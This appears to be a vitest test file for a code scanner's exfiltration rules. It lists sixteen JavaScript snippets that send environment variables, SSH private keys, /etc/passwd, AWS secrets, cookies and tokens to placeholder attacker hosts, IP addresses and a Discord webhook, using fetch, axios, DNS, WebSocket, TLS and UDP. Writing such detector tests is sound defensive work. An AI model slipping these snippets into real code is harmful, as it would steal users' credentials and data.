import { describe, expect, it } from "vitest";
import { rulesFound } from "../check-world.ts";

/** The rule, the file, and what is in it. */
const HIDDEN: readonly (readonly [string, string, string])[] = [
  [
    "js-exfiltration",
    "src/case.js",
    "import https from 'node:https';\nconst r = https.request({ host: 'x.example', method: 'POST' });\nr.write(JSON.stringify(process.env));\nr.end();",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const axios = require('axios');\naxios.post('https://c2.example', Object.entries(process.env));",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import fs from 'fs';\nimport os from 'os';\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://x.example', { method: 'POST', body: k });",
  ],
  ["js-exfiltration", "src/case.js", "navigator.sendBeacon('/x', localStorage.getItem('token'));"],
  [
    "js-exfiltration",
    "src/case.js",
    "import dns from 'dns';\ndns.resolveTxt(`${process.env.API_KEY}.evil.example`, () => {});",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const ws = new WebSocket('wss://x.example');\nws.onopen = () => ws.send(JSON.stringify(process.env));",
  ],
  ["js-exfiltration", "src/case.js", "fetch('http://45.77.12.9/c?d=' + btoa(JSON.stringify(process.env)));"],
  [
    "js-exfiltration",
    "src/case.js",
    "const xhr = new XMLHttpRequest();\nxhr.open('POST', 'https://evil.example');\nxhr.send(document.cookie);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import { promises as f } from 'fs';\nconst t = await f.readFile('/etc/passwd', 'utf8');\nawait fetch('https://x.example/?' + t);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "fetch(`https://evil.example/?k=${process.env.AWS_SECRET_ACCESS_KEY}`);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import { connect } from 'node:tls';\nconnect(443, '198.51.100.3').write(Object.values(process.env).join());",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import dgram from 'dgram';\ndgram.createSocket('udp4').send(Buffer.from(JSON.stringify(process.env)), 53, '198.51.100.9');",
  ],
  ["js-exfiltration", "src/case.js", "location = 'https://evil.example/?' + document.cookie;"],
  [
    "js-suspicious-address",
    "src/case.js",
    "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: report });",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "const payload = Buffer.from(JSON.stringify({ ...process.env })).toString('base64');\nfetch('https://example.net/?' + payload);",
  ],
  [
    "js-exfiltration",
    "src/case.js",
    "import os from 'os';\nfetch('https://stats.example', { method: 'POST', body: JSON.stringify({ u: os.userInfo(), h: os.hostname() }) });",
  ],
];

describe("JavaScript and TypeScript", () => {
  it.each(HIDDEN)("%s is seen where secrets leave: %s: %s", async (rule, path, code) => {
    expect(await rulesFound({}, { [path]: code })).toContain(rule);
  });
});
